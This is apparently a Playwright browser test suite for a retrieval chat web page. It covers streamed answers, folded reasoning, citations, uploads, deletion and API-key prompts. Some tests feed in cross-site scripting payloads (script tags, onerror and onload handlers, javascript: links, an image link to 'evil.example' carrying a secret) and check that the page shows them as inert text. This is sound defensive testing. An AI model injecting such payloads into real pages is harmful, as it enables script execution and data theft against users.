"""The chat page in a real browser: documents, a second turn, upload and deletion; without a server."""

from __future__ import annotations

import json
import re
import sys
import time
from collections.abc import Iterator, Sequence
from itertools import pairwise
from pathlib import Path
from shutil import which
from typing import Any

import httpx
import pytest
import torch
from families import build
from pdf import pdf
from run_script import start

sync_api = pytest.importorskip("playwright.sync_api", reason="no playwright: pip install 'kvrag[dev]'")

BROWSER = next(filter(None, map(which, ("chromium", "chromium-browser", "google-chrome"))), None)
pytestmark = pytest.mark.skipif(BROWSER is None, reason="no Chromium: apt-get install chromium, as .ci/run does")

KVRAG = Path(sys.executable).with_name("kvrag")
EXAMPLES = Path(__file__).parents[3] / "examples"
HANDBOOK = sorted((EXAMPLES / "handbook").iterdir())
FLAGS = [
    "--no-sandbox",  # CI is root
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
# every text that the newest answer has had
WATCH = """() => {
    window.heard = [];
    new MutationObserver(() => {
        const text = [...document.querySelectorAll('.answer')].at(-1)?.innerText ?? '';
        if (text && text !== window.heard.at(-1)) window.heard.push(text);
    }).observe(document.body, {childList: true, subtree: true, characterData: true});
}"""


@pytest.fixture(scope="module")
def model_folder(tokenizer: Any, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A random model that generates words until the limit, one piece of the stream for each."""
    folder = tmp_path_factory.mktemp("model")
    hf = build("llama", max_position_embeddings=2048)
    words = [re.fullmatch(" ?[a-z]+", tokenizer.decode([number])) is not None for number in range(len(tokenizer))]
    with torch.no_grad():
        others = [number for number in range(hf.vocab_size) if number >= len(words) or not words[number]]
        hf.lm_head.weight[others] = 0  # some word's logit is above
    hf.save_pretrained(folder)
    tokenizer.save_pretrained(folder)
    return folder


@pytest.fixture(scope="module")
def server(model_folder: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """A process of `kvrag serve` with documents, and its `url`; most tests script its answers. The last one ends it."""
    folder = tmp_path_factory.mktemp("server")
    options = ["--model", str(model_folder), "--store", "kv", "--top-k", "5", "--max-tokens", "12", "--ratio", "0.15"]
    options += ["--page", str(EXAMPLES / "chat")]
    process = start(KVRAG, "serve", "--port", "0", "--json", *options, folder=folder)
    try:
        while not (said := folder / "stdout").exists() or "\n" not in said.read_text():
            assert process.is_alive(), (folder / "stderr").read_text()
            time.sleep(0.1)
        process.url = json.loads(said.read_text())["url"]
        for path in HANDBOOK:
            place = f"{process.url}/v1/corpus/handbook/{path.name}"
            httpx.put(place, content=path.read_bytes(), timeout=60).raise_for_status()
        yield process
    finally:
        process.terminate()
        process.join(60)


@pytest.fixture(scope="module")
def url(server: Any) -> str:
    return str(server.url)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=BROWSER, args=FLAGS)
        yield browser
        browser.close()


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    """An empty page, with a storage of its own."""
    with browser.new_context(viewport={"width": 1366, "height": 768}) as context:
        page = context.new_page()
        page.set_default_timeout(120_000)
        yield page


def ask(page: Any, question: str, turn: int) -> None:
    page.fill("#question", question)
    page.press("#question", "Enter")
    page.locator(".detail", has_text="prompt tokens").nth(turn - 1).wait_for()  # complete


def script(
    page: Any, *deltas: dict[str, str], error: str = "", citations: Sequence[dict[str, Any]] = ()
) -> list[dict[str, Any]]:
    """Answer the page with these pieces of a stream, and perhaps an error; return its requests."""
    asked: list[dict[str, Any]] = []
    report = {"prompt_tokens": 5, "reused_tokens": 2, "recomputed_tokens": 1, "notes": []}
    events: list[dict[str, Any]] = [{"choices": [{"delta": {}}], "citations": citations}]
    events += [{"choices": [{"delta": delta}]} for delta in deltas]

    def answer(route: Any) -> None:
        asked.append(route.request.post_data_json)
        end = {"error": {"message": error}} if error else {"choices": [{"delta": {}}], "kvrag": report}
        lines = [*map(json.dumps, [*events, end]), "[DONE]"]
        route.fulfill(content_type="text/event-stream", body="".join(f"data: {line}\n\n" for line in lines))

    serve_documents(page, {"id": "a.md"})
    page.route("**/v1/chat/completions", answer)
    return asked


HOSTILE = """<img src=x onerror="window.hacked=1"> <script>window.hacked=1</script>
[a](javascript:window.hacked=1) [b](data:text/html,x) ![c](https://evil.example/?secret)
[d](https://x.example" onclick="y)
| <svg onload=window.hacked=1> |
|---|
"""


def test_an_answer_is_shown_as_text_and_an_error_below_it(page: Any, url: str) -> None:
    addresses: list[str] = []
    page.on("request", lambda request: addresses.append(request.url))
    script(page, *({"content": HOSTILE[at : at + 7]} for at in range(0, len(HOSTILE), 7)))
    page.goto(url)
    ask(page, "Who is the cook?", 1)
    assert page.locator(".answer").first.inner_text() == HOSTILE.strip()
    assert page.locator(".answer *").count() == 0
    assert page.evaluate("window.hacked") is None
    assert all(address.startswith((url, "data:")) for address in addresses)
    assert page.inner_text(".detail") == "5 prompt tokens: 2 reused (40 %), 1 stored but recomputed"
    page.unroute("**/v1/chat/completions")
    script(page, {"content": "Half"}, error="out of memory")
    page.fill("#question", "Who else?")
    page.press("#question", "Enter")
    page.locator(".problem", has_text="out of memory").wait_for()
    assert page.locator(".answer").last.inner_text() == "Half"  # what has arrived stays
    assert page.input_value("#question") == "Who else?"


def test_a_thought_is_folded_and_not_sent_back(page: Any, url: str) -> None:
    """The stream is scripted: the random model does not think."""
    thoughts = [{"reasoning_content": text, "reasoning": text} for text in ("Who else? ", "Yusuf.")]
    asked = script(page, *thoughts, {"content": " Yusuf"}, {"content": " Demir"})
    page.goto(url)
    ask(page, "Who is the cook?", 1)
    lane = page.locator(".turn").first
    assert lane.locator(".answer").inner_text() == "Yusuf Demir"
    assert lane.locator(".thought summary").inner_text() == "Thought"
    assert not lane.locator(".thought p").is_visible()
    lane.locator(".thought summary").click()
    assert lane.locator(".thought p").inner_text() == "Who else? Yusuf."
    ask(page, "Where does he work?", 2)
    assert asked[1]["messages"][1] == {"role": "assistant", "content": "Yusuf Demir"}


def test_names_and_words_of_any_length_stay_inside(page: Any, url: str) -> None:
    page.set_viewport_size({"width": 390, "height": 844})
    name, word = "<img src=x onerror=window.hacked=1>" * 6 + ".md", "Donaudampfschiff" * 200
    script(page, {"content": word}, citations=[{"document": name, "text": f"<b>{word}", "pages": None}])
    serve_documents(page, {"id": name}, {"id": word[:256]})
    page.goto(url)
    ask(page, word, 1)
    page.click("#sidebar > summary")
    page.click(".sources > summary")
    page.click(".sources li summary")
    assert page.locator(".sources .where").inner_text() == name
    where = page.locator(".sources .where").bounding_box()
    assert where["x"] + where["width"] <= 390
    assert page.locator(".sources p").inner_text() == f"<b>{word}"
    assert page.locator("#documents .name").first.inner_text() == name
    assert page.evaluate("document.documentElement.scrollWidth") == 390
    overflowing = """[...document.querySelectorAll('body *')].filter((node) => node.clientWidth
        && node.scrollWidth > node.clientWidth && getComputedStyle(node).overflowX === 'visible')"""
    assert page.evaluate(f"{overflowing}.map((node) => node.className || node.id || node.tagName)") == []
    assert page.locator("img").count() == 0
    assert page.evaluate("window.hacked") is None


def serve_documents(page: Any, *documents: dict[str, Any]) -> None:
    """Let the page see these documents."""
    rows = [{"status": "ready", "chunks": 1, "tokens": 0, **row} for row in documents]
    page.route("**/v1/corpus?*", lambda route: route.fulfill(json={"data": rows}))


def test_an_upload_that_takes_longer_than_the_limit_is_continued(page: Any, url: str, tmp_path: Path) -> None:
    statuses, rows = [504, 504, 200], [{"id": "a.md"}]
    serve_documents(page, *rows)

    def upload(route: Any) -> None:
        assert route.request.method == "PUT"
        route.fulfill(status=statuses.pop(0), json={"error": {"message": "too long"}, "problems": []})
        serve_documents(page, *rows, {"id": "b.md"})

    page.route("**/v1/corpus/*", upload)
    page.goto(url)
    page.locator("#summary", has_text="1").wait_for()
    page.click("#sidebar > summary")
    (tmp_path / "b.md").write_text("Yusuf Demir cooks.")
    page.set_input_files("#files", [tmp_path / "b.md"])
    page.locator("#documents li", has_text="b.md").wait_for()
    assert statuses == []


def test_sources_have_names_and_pages(page: Any, url: str) -> None:
    hits = [{"document": f"/srv/docs/{number}.md", "text": f"Text {number}.", "pages": None} for number in range(4)]
    hits[1] |= {"pages": [3, 4]}
    hits[2] |= {"pages": [5, 5]}
    script(page, {"content": "Yusuf"}, citations=hits)
    page.goto(url)
    ask(page, "Who is the cook?", 1)
    page.click(".sources > summary")
    assert page.inner_text(".sources > summary") == "4 chunks from 4 documents"
    names = ["docs/0.md", "docs/1.md (p. 3-4)", "docs/2.md (p. 5)", "docs/3.md"]
    assert page.locator(".sources .where").all_inner_texts() == names


def test_the_page_asks_for_the_key(page: Any, url: str) -> None:
    said: list[str] = []
    keys = iter(["wrong", "right"])

    def models(route: Any) -> None:
        if route.request.headers.get("authorization") == "Bearer right":
            return route.fallback()
        message = "missing or wrong API key: send it as 'Authorization: Bearer KEY'"
        return route.fulfill(status=401, json={"error": {"message": message}})

    def enter(dialog: Any) -> None:
        said.append(dialog.message)
        dialog.accept(next(keys))

    page.route("**/v1/models", models)
    page.on("dialog", enter)
    page.goto(url)
    page.locator("#documents li").first.wait_for(state="attached")
    assert said == ["This server requires an API key.", "The server does not know this key. Try another one."]


def test_a_chat(page: Any, server: Any, tmp_path: Path) -> None:
    addresses: list[str] = []
    asked: list[dict[str, Any]] = []
    failed: list[Any] = []
    page.on("request", lambda request: addresses.append(request.url))
    page.on("request", lambda request: asked.append(request.post_data_json) if "chat/" in request.url else None)
    page.on("pageerror", lambda error: failed.append(error))
    page.goto(server.url)
    page.evaluate(WATCH)

    # the documents are there
    page.locator("#summary", has_text=re.compile("^16$")).wait_for()
    ask(page, "Who is the cook?", 1)
    heard = page.evaluate("window.heard")
    assert len(heard) > 2  # not all at once
    assert all(later.startswith(earlier) for earlier, later in pairwise(heard))
    assert not page.locator(".thought").first.is_visible()
    assert page.locator("#documents li").count() == len(HANDBOOK)
    assert re.search(r"[1-9]\d* reused \(\d+ %\), [1-9]\d* stored but recomputed", page.inner_text(".detail"))
    page.click(".sources > summary")
    page.click(".sources li:first-child summary")
    assert page.locator(".sources li").count() == 5
    assert re.fullmatch(r"5 chunks from \d documents", page.inner_text(".sources > summary"))
    assert page.is_hidden("#tiny")  # the note about the bundled model
    page.locator("#checks", has_text=re.compile("nothing is known yet|answers? were kept|On this model")).wait_for()
    assert page.inner_text(".sources li:first-child p") in "".join(path.read_text() for path in HANDBOOK)

    # a second turn has the first in its prompt
    said = page.locator(".answer").first.inner_text()
    ask(page, "Where does he work?", 2)
    roles = [(message["role"], message["content"]) for message in asked[1]["messages"]]
    assert roles == [("user", "Question: Who is the cook?"), ("assistant", said), ("user", "Where does he work?")]

    # upload, and deletion
    (tmp_path / "note.md").write_text("Yusuf Demir works in the canteen, and he sings while he cooks fish soup.")
    (tmp_path / "broken.pdf").write_bytes(b"%PDF-1.4 no more than this")
    (tmp_path / "lines.jsonl").write_text('{"text": "Ada Holm works in the archive."}\nno JSON\n')
    (tmp_path / "none.jsonl").write_text("no JSON\n")
    names = ("note.md", "broken.pdf", "lines.jsonl", "none.jsonl")
    page.click("#sidebar > summary")
    with page.expect_event("dialog") as alerted:
        page.once("dialog", lambda dialog: dialog.accept())
        page.set_input_files("#files", [tmp_path / name for name in names])
    broken, none = alerted.value.message.split("\n")
    assert broken.startswith("broken.pdf: ")
    assert "it is a broken or protected PDF" in broken
    assert "line 1: skipped: it is not JSON" in none
    page.locator("#documents li", has_text="lines.jsonl").get_by_text("line 2: skipped: it is not JSON").wait_for()
    page.locator("#documents li", has_text="note.md").get_by_text("1 chunk").wait_for()
    page.once("dialog", lambda dialog: dialog.dismiss())
    page.get_by_label("Delete note.md").click()
    page.on("dialog", lambda dialog: dialog.accept())
    page.get_by_label("Delete handbook/petrel.md").click()
    page.get_by_label("Delete handbook/petrel.md").wait_for(state="detached")
    page.locator("#summary", has_text="17").wait_for()
    page.get_by_label("Delete note.md").wait_for()

    # a chunk over two pages
    (tmp_path / "choir.pdf").write_bytes(pdf("The choir meets on Mondays", "in the old fire station."))
    page.set_input_files("#files", [tmp_path / "choir.pdf"])
    page.locator("#summary", has_text="18").wait_for()
    page.locator("#documents li", has_text="choir.pdf").get_by_text("1 chunk").wait_for()
    ask(page, "Where does the choir meet?", 3)
    page.locator(".sources").last.locator("> summary").click()
    page.locator(".sources li summary", has_text="choir.pdf (p. 1-2)").wait_for()
    assert [len(body["messages"]) for body in asked] == [1, 3, 5]

    # small and dark
    page.set_viewport_size({"width": 390, "height": 844})
    assert page.evaluate("document.documentElement.scrollWidth") == 390
    before = page.evaluate("getComputedStyle(document.body).backgroundColor")
    page.emulate_media(color_scheme="dark")
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") != before

    # a lost server is reported
    server.terminate()
    server.join(60)
    page.fill("#question", "Is anybody there?")
    page.press("#question", "Enter")
    page.locator(".problem", has_text="The server does not answer").wait_for()
    assert page.input_value("#question") == "Is anybody there?"
    assert failed == []
    assert [address for address in addresses if not address.startswith((server.url, "data:"))] == []  # works offline
